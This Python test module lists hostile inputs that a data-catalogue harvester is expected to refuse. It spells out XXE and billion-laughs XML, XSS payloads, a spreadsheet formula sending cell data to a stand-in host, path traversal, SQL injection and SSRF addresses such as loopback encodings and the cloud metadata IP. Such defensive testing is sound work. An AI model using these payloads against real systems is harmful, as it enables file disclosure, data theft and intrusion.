"""What an attacker makes a source do, or makes somebody type in as its address."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

from tests.faults.conversations import Conversation, transcribed
from tests.faults.entries import ODD, File, spoilt
from tests.faults.http import good, sends_on
from tests.faults.model import Fault, Play, Scene, holding, spoils_one, stopped, well, whole
from tests.harvest.servers import Answer, Respond

_XML = ("xml",)
_BOMB = "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' if level else '<!ENTITY l0 "ha">' for level in range(10)
)


def in_xml(conversation: Conversation) -> Respond:
    """The source that is well, in XML also where it could speak otherwise."""
    respond = well(conversation).respond
    if conversation.protocol == "dcat":
        return transcribed(respond, "xml", "application/rdf+xml")
    return respond


def with_doctype(entities: str, use: str = "") -> Play:
    """Every good answer declares a document type; `use` stands in the title of a record."""

    def change(answer: Answer) -> Answer:
        prolog, _, body = answer.body.partition(b"?>")
        root = body.lstrip()[1:].split(b" ", 1)[0].split(b">", 1)[0].decode()
        doctype = f"?><!DOCTYPE {root} [{entities}]>".encode()
        body = body.replace(f"attivi {ODD}".encode(), f"attivi {ODD}{use}".encode())
        return replace(answer, body=prolog + doctype + body)

    return lambda conversation: Scene(good(change)(in_xml(conversation)))


def with_context(context: str) -> Play:
    """A feed in JSON-LD that keeps its context somewhere else."""

    def change(answer: Answer) -> Answer:
        body = b'{"@context": "' + context.encode() + b'", "@graph": ' + answer.body + b"}"
        return replace(answer, body=body)

    def play(conversation: Conversation) -> Scene:
        jsonld = transcribed(well(conversation).respond, "json-ld", "application/ld+json")
        return Scene(good(change)(jsonld))

    return play


def at(url: str, addresses: Callable[[str, int], list[str]] | None = None) -> Play:
    """Somebody types in an address; the source behind it is well."""
    return lambda conversation: Scene(well(conversation).respond, url=url, resolver=addresses, allowed=False)


def _resolves_to(address: str) -> Callable[[str, int], list[str]]:
    return lambda host, port: [address]


_REFUSED = stopped("address-refused")

FAULTS: tuple[Fault, ...] = (
    Fault(
        "foreign-file-by-entity",
        "An entity of the document type names a file of this machine (XXE).",
        with_doctype('<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;"),
        stopped("document-type-refused", "xml-unreadable"),
        but={"ine_pt": spoils_one()},  # it is read from its root element on, and knows no entities
        needs=_XML,
    ),
    Fault(
        "entity-bomb",
        "Entities of the document type grow to gigabytes (billion laughs).",
        with_doctype(_BOMB, "&l9;"),
        stopped("document-type-refused", "xml-unreadable"),
        but={"ine_pt": spoils_one()},
        seen="RDFLib/rdflib#3440",
        needs=_XML,
    ),
    Fault(
        "foreign-document-type",
        "The document type is kept at another address.",
        with_doctype('<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;'),
        stopped("document-type-refused", "xml-unreadable"),
        but={"ine_pt": whole()},
        needs=_XML,
    ),
    Fault(
        "context-elsewhere",
        "The context of JSON-LD is kept at another address.",
        with_context("http://127.0.0.1:9/context.jsonld"),
        stopped("foreign-context-refused"),
        needs=("jsonld",),
    ),
    Fault(
        "context-in-file",
        "The context of JSON-LD is a file of this machine.",
        with_context("file:///etc/passwd"),
        stopped("foreign-context-refused"),
        needs=("jsonld",),
    ),
    Fault(
        "script-in-texts",
        "Title and description of one record hold scripts and event handlers.",
        holding(
            spoilt(
                title="Servizi <script>alert(1)</script><img src=x onerror=alert(1)> sociali",
                description='<p onclick="alert(1)">Orari</p><script>alert(1)</script><iframe src="//x.example">'
                '</iframe> [qui](javascript:alert(1)) <a href="data:text/html,x">di più</a>',
                keywords=("<b onmouseover=alert(1)>anziani</b>",),
            )
        ),
        spoils_one(),
    ),
    Fault(
        "tracking-picture",
        "The description of one record loads a picture from another server.",
        holding(
            spoilt(
                description='Orari <img src="https://spia.example/x.gif"> ![x](https://spia.example/y.gif)'
            )
        ),
        spoils_one(),
    ),
    Fault(
        "link-that-runs",
        "The page and a file of one record are `javascript:` addresses.",
        holding(spoilt(page="javascript:alert(1)", files=(File("javascript:alert(1)"),))),
        spoils_one("link-invalid"),
        needs=("pages-of-records",),
    ),
    Fault(
        "link-with-data",
        "The page and a file of one record are `data:` addresses.",
        holding(
            spoilt(
                page="data:text/html;base64,PHNjcmlwdD4=", files=(File("data:text/html;base64,PHNjcmlwdD4="),)
            )
        ),
        spoils_one("link-invalid"),
        needs=("pages-of-records",),
    ),
    Fault(
        "link-to-file",
        "The page and a file of one record are files of this machine.",
        holding(spoilt(page="file:///etc/passwd", files=(File("file:///etc/passwd"),))),
        spoils_one("link-invalid"),
        needs=("pages-of-records",),
    ),
    Fault(
        "formula",
        "The title of one record is a formula of a spreadsheet.",
        holding(spoilt(title='=HYPERLINK("https://spia.example/?x="&A1;"Servizi")')),
        spoils_one(),
    ),
    Fault(
        "identifier-with-path",
        "The identifier of one record climbs up folders.",
        holding(spoilt(identifier="../../../../etc/passwd")),
        whole(unchanged=5, new=1, vanished=1),
        needs=("own-names",),
    ),
    Fault(
        "identifier-with-sql",
        "The identifier of one record holds SQL.",
        holding(spoilt(identifier="x%27);DROP+TABLE+package;--")),
        whole(unchanged=5, new=1, vanished=1),
        needs=("own-names",),
    ),
    Fault("address-loopback", "The address is this machine's own.", at("http://127.0.0.1:5432"), _REFUSED),
    Fault(
        "address-decimal",
        "The address is this machine's own, as one number.",
        at("http://2130706433"),
        _REFUSED,
    ),
    Fault(
        "address-octal",
        "The address is this machine's own, in octal.",
        at("http://0177.0.0.1"),
        stopped("address-invalid"),
    ),
    Fault(
        "address-hexadecimal",
        "The address is this machine's own, in hexadecimal.",
        at("http://0x7f000001"),
        _REFUSED,
    ),
    Fault("address-ipv6", "The address is this machine's own in IPv6.", at("http://[::1]"), _REFUSED),
    Fault(
        "address-ipv4-in-ipv6",
        "The address is this machine's own, hidden inside IPv6.",
        at("http://[::ffff:127.0.0.1]"),
        _REFUSED,
    ),
    Fault(
        "address-of-cloud-service",
        "The address is that of a cloud's metadata service.",
        at("http://169.254.169.254"),
        _REFUSED,
    ),
    Fault(
        "name-of-this-machine",
        "A public name leads to this machine (DNS rebinding).",
        at("http://portal.example", _resolves_to("127.0.0.1")),
        _REFUSED,
    ),
    Fault(
        "address-with-password",
        "The address holds a user and a password.",
        at("http://anna:segreto@portal.example"),
        stopped("address-with-password"),
    ),
    Fault(
        "address-of-file",
        "The address is a file of this machine.",
        at("file:///etc/passwd"),
        stopped("address-invalid"),
    ),
    Fault(
        "redirects-to-other-port",
        "Every address leads to another port of this machine.",
        sends_on("http://127.0.0.1:5432/"),
        _REFUSED,
    ),
)
